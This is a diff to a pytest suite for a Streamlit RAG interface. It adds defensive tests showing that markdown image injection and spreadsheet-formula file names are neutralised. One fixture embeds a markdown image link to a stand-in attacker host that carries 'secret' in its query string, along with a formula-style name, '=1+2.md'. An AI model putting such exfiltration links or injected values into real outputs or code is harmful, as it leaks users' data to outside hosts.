@@ -7,6 +7,9 @@ import httpx
 import pytest
 from streamlit.testing.v1 import AppTest
 
+from ragkit.markup import plain
+from ragkit_testing.pages import HOSTILE, markdown_of, pictures
+
 PAGE = str(Path(__file__).parent.parent / "rag_events" / "ui.py")
 SOURCE = {"document": "a.md", "chunk": 0, "text": "Soup.", "score": 0.5}
 
@@ -27,7 +30,7 @@ def test_an_answer_shows_with_its_sources_and_fetches_no_pictures(monkeypatch: p
     app.button[0].click().run()
     assert not app.exception
     assert app.markdown[0].value == "Soup !\\[x](http://elsewhere/x.png)"
-    assert "a.md" in app.expander[0].label
+    assert plain("a.md") in app.expander[0].label
     assert list(app.dataframe[0].value["name"]) == ["a.md"]
 
 
@@ -35,7 +38,7 @@ def test_the_detail_of_a_problem_is_shown(monkeypatch: pytest.MonkeyPatch) -> No
     problem = httpx.Response(409, json={"title": "Conflict", "detail": "POST /rebuild", "status": 409})
     app = page(monkeypatch, {"/documents": problem}).run()
     assert not app.exception
-    assert app.error[0].value == "409: POST /rebuild"
+    assert app.error[0].value == plain("409: POST /rebuild")
 
 
 def test_an_api_that_does_not_answer_is_reported(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -43,3 +46,24 @@ def test_an_api_that_does_not_answer_is_reported(monkeypatch: pytest.MonkeyPatch
     app = AppTest.from_file(PAGE, default_timeout=20).run()
     assert not app.exception
     assert "does not answer" in app.error[0].value
+
+
+def test_no_name_and_no_answer_makes_the_browser_fetch_a_picture(monkeypatch: pytest.MonkeyPatch) -> None:
+    answer = {
+        "answer": f"!{HOSTILE} !![a](http://evil.example/?d=secret)",
+        "sources": [SOURCE | {"document": HOSTILE}],
+    }
+    listed = httpx.Response(200, json=[{"id": "1", "name": "=1+2.md", "chunks": 1}])
+    app = page(monkeypatch, {"/documents": listed, "/query": httpx.Response(200, json=answer)}).run()
+    app.text_input[0].set_value("What is for lunch?")
+    app.button[0].click().run()
+    assert "\n".join(markdown_of(app)).count("evil") == 3, "the answer has two, the title one"
+    assert pictures(app) == []
+    assert list(app.dataframe[0].value["name"]) == ["'=1+2.md"]
+
+
+def test_the_detail_of_a_problem_is_no_markdown(monkeypatch: pytest.MonkeyPatch) -> None:
+    problem = httpx.Response(415, json={"detail": HOSTILE})
+    app = page(monkeypatch, {"/documents": problem}).run()
+    assert app.error[0].value == plain(f"415: {HOSTILE}")
+    assert pictures(app) == []
